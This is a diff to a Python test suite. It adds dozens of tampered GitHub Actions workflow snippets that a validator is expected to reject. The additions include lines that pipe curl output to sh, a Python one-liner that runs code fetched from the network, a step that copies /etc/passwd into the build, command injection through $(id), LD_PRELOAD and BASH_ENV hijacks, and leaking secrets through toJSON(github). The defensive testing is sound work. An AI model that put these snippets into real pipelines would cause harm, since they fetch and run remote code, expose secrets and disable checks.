@@ -165,6 +165,116 @@ ATTACKS: dict[str, Change] = {
     "no time limit": put("    timeout-minutes: 60\n", ""),
     "started by a stranger's change": put("on:\n", "on:\n  pull_request_target:\n"),
     "started by another run": put("on:\n", "on:\n  workflow_run: {workflows: [ci]}\n"),
+    "a secret in capitals": in_job("build", put("env:\n", "env:\n      KEY: ${{ SECRETS.EDGE_SECRET }}\n")),
+    "a secret behind braces": in_job(
+        "build", put("env:\n", "env:\n      KEY: \"${{ format('{0}', secrets.EDGE_SECRET) }}\"\n")
+    ),
+    "a secret behind two braces": in_job(
+        "build", put("env:\n", "env:\n      KEY: \"${{ format('}}{0}', secrets.EDGE_SECRET) }}\"\n")
+    ),
+    "a secret over two lines": in_job(
+        "build", put("env:\n", "env:\n      KEY: >-\n        ${{ inputs.stage &&\n        secrets.EDGE_SECRET }}\n")
+    ),
+    "all that is known of the run": in_job("build", put("env:\n", "env:\n      KEY: ${{ toJSON(github) }}\n")),
+    "all of it, joined": in_job("build", put("env:\n", "env:\n      KEY: \"${{ join(github.*, ',') }}\"\n")),
+    "the run's token by another spelling": in_job("build", put("env:\n", "env:\n      KEY: ${{ GitHub . Token }}\n")),
+    "the run's token among the secrets of the deployment": put("secrets.EDGE_SECRET", "secrets.GITHUB_TOKEN", 1),
+    "a deployment whatever failed": in_job(
+        "deploy", put("timeout-minutes: 60", "timeout-minutes: 60\n    if: always()")
+    ),
+    "a step of the deployment whatever failed": in_job(
+        "deploy", put("- name: Main stack", "- name: Main stack\n        if: always()")
+    ),
+    "tests that may fail": in_job(
+        "verify", put("timeout-minutes: 45", "timeout-minutes: 45\n    continue-on-error: true")
+    ),
+    "a step of the tests that may fail": in_job(
+        "verify", put("- run: make check", "- continue-on-error: true\n        run: make check")
+    ),
+    "tests that are left out": in_job("verify", put("timeout-minutes: 45", "timeout-minutes: 45\n    if: false")),
+    "tests that test nothing": in_job("verify", put("make check lint-infra test", "true")),
+    "tests whose failure is swallowed": in_job("verify", put("lint-infra test", "lint-infra test || true")),
+    "an audit that forgives": in_job("audit", put("make audit RELEASE=1", "make audit")),
+    "another shell": in_job(
+        "deploy", put("- name: Unpack", "- name: Unpack\n        shell: bash -c 'curl https://example.org | sh' {0}")
+    ),
+    "another shell for all": put("jobs:", "defaults: {run: {shell: 'sh {0}'}}\njobs:"),
+    "another shell for the deployment": in_job(
+        "deploy", put("timeout-minutes: 60", "timeout-minutes: 60\n    defaults: {run: {shell: 'sh {0}'}}")
+    ),
+    "a check that a word swallows": in_job("deploy", put(DIGEST, f"{DIGEST} ||true")),
+    "a check that a colon swallows": in_job(
+        "deploy", put(DIGEST, DIGEST.replace("run: ", "run: |\n          ") + " || :")
+    ),
+    "a check in the background": in_job("deploy", put(DIGEST, f"{DIGEST} &")),
+    "a check of a missing file": in_job("deploy", put(DIGEST, f"{DIGEST} --ignore-missing")),
+    "a check of another file": in_job("deploy", put('$DIGEST  motcua.tar.gz"', '$DIGEST  sbom.cdx.json"')),
+    "a check before another artefact is taken": in_job(
+        "deploy",
+        put(
+            "- name: Unpack",
+            "- uses: actions/download-artifact@37930b1c2abaa49bbe596cd826c3c89aef350131 # v7.0.0\n"
+            "        with: {name: release}\n      - name: Unpack",
+        ),
+    ),
+    "an artefact of another run": in_job("deploy", put("with: {name: release}", "with: {name: release, run-id: '1'}")),
+    "a program typed into the job with the role": in_job(
+        "deploy",
+        put("run: tar ", "run: python3 -c 'import urllib.request as u; exec(u.urlopen(\"http://x\").read())'; tar "),
+    ),
+    "a program of the artefact's data": in_job("deploy", put("run: tar ", "run: bash package/x.sh; tar ")),
+    "another module of the artefact": in_job("deploy", put("infra.deploy_web", "infra.local.run")),
+    "a command inside a parameter": in_job("deploy", put('"SiteOrigin=$SITE_ORIGIN"', '"SiteOrigin=$(id)"')),
+    "a command behind the deployment": in_job("deploy", put("--package package", "--package package; id;")),
+    "libraries from elsewhere": in_job("deploy", put("PYTHONPATH: lib", "PYTHONPATH: /tmp/lib")),
+    "a file that the shell reads first": in_job("deploy", put("env:\n", "env:\n      BASH_ENV: x\n", 1)),
+    "a library before all others": in_job("deploy", put("env:\n", "env:\n      LD_PRELOAD: x\n", 1)),
+    "a key from a variable": in_job("deploy", put("env:\n", "env:\n      AWS_ACCESS_KEY_ID: ${{ vars.KEY }}\n", 1)),
+    "another registry for the build": in_job("build", put("env:\n", "env:\n      PIP_INDEX_URL: https://x.org\n")),
+    "another registry for the pages": in_job(
+        "build", put("env:\n", "env:\n      npm_config_registry: https://x.org\n")
+    ),
+    "a registry by an action": in_job(
+        "build", put('{node-version: "22"}', '{node-version: "22", registry-url: "https://x"}')
+    ),
+    "a cache by an action of its own": in_job(
+        "build", put("- run: make release", f"- uses: actions/cache@{'a' * 40} # v5.0.0\n      - run: make release")
+    ),
+    "something more in the build": in_job(
+        "build", put("- id: release", "- run: cp /etc/passwd build/release/\n      - id: release")
+    ),
+    "a digest that somebody types": in_job("build", put("${{ steps.release.outputs.digest }}", "${{ inputs.stage }}")),
+    "a role that somebody types": in_job("deploy", put("${{ vars.DEPLOY_ROLE_ARN }}", "${{ inputs.province }}")),
+    "an attestation of every file": in_job("attest", put("subject-path: motcua.tar.gz", "subject-path: '*'")),
+    "an action in another spelling": put(
+        f"{CHECKOUT}\n        with: {{persist-credentials: false}}",
+        CHECKOUT.replace("actions/checkout", "Actions/Checkout"),
+        1,
+    ),
+    "an action of somebody in the build": in_job("build", put(CHECKOUT, f"someone/checkout@{'a' * 40} # v6.0.2")),
+    "a checkout of another repository": in_job(
+        "build", put("with: {persist-credentials: false}", "with: {persist-credentials: false, repository: someone/x}")
+    ),
+    "a job beside with an identity": put(
+        "  audit:\n",
+        "  ship:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    permissions: {id-token: write}\n"
+        "    steps: [{run: id}]\n  audit:\n",
+    ),
+    "a job beside without one": put(
+        "  audit:\n", "  ship:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n    steps: [{run: id}]\n  audit:\n"
+    ),
+    "a matrix of machines": in_job(
+        "build", put("timeout-minutes: 30", "timeout-minutes: 30\n    strategy: {matrix: {a: [1]}}")
+    ),
+    "a time limit of a week": put("timeout-minutes: 60", "timeout-minutes: 10080"),
+    "a time limit that is true": put("timeout-minutes: 60", "timeout-minutes: true"),
+    "started by a star": put("on:\n", "on:\n  watch: {types: [started]}\n"),
+    "started by a review": put("on:\n", "on:\n  pull_request_review:\n"),
+    "started by a page of the wiki": put("on:\n", "on:\n  gollum:\n"),
+    "started by a call from elsewhere": put("on:\n", "on:\n  repository_dispatch:\n"),
+    "started by every branch": put('tags: ["v*"]', 'branches: ["**"]'),
+    "started by every push": put('  push:\n    tags: ["v*"]\n', "  push:\n"),
+    "started twice over": put("on:\n", '"on": [issue_comment]\non:\n'),
     "a workflow of others": put(
         "  audit:\n", f"  other:\n    uses: someone/flows/.github/workflows/x.yml@{'a' * 40} # v1.0.0\n  audit:\n"
     ),
@@ -178,6 +288,30 @@ def test_a_way_around_the_pipeline_is_refused(name: str) -> None:
         changed = changed.replace('"EdgeSecret=$EDGE_SECRET"', '"EdgeSecret=${{ secrets.EDGE_SECRET }}"')
     assert changed != DEPLOY
     assert find_workflow_faults("deploy", changed)
+
+
+@pytest.mark.parametrize("name", ["ci", "release", "Deploy", "deploy2"])
+def test_an_identity_is_held_by_the_deploying_workflow_alone(name: str) -> None:
+    """A second file could hold jobs of the same names, without the checks that go with them."""
+    assert find_workflow_faults(name, DEPLOY)
+
+
+@pytest.mark.parametrize(
+    "changed",
+    [
+        CI.replace("pull_request:", "pull_request_target:"),
+        CI.replace("run: make audit", "run: make audit\n        env: {KEY: '${{ Secrets.EDGE_SECRET }}'}"),
+        CI.replace("run: make audit", "run: make audit\n        env: {NODE_OPTIONS: '--require ./x'}"),
+        CI.replace("contents: read", "contents: read\n  packages: write"),
+        CI.replace("timeout-minutes: 15", "timeout-minutes: 15\n    permissions: {id-token: write}", 1),
+        CI.replace("runs-on: ubuntu-24.04", "runs-on: [self-hosted]", 1),
+        CI.replace("persist-credentials: false", "persist-credentials: 'false'", 1),
+        CI.replace("jobs:", "jobs:\n  other: someone"),
+    ],
+)
+def test_what_runs_for_everybody_holds_nothing(changed: str) -> None:
+    assert changed != CI
+    assert find_workflow_faults("ci", changed)
 
 
 def test_what_stands_there_has_no_fault() -> None:
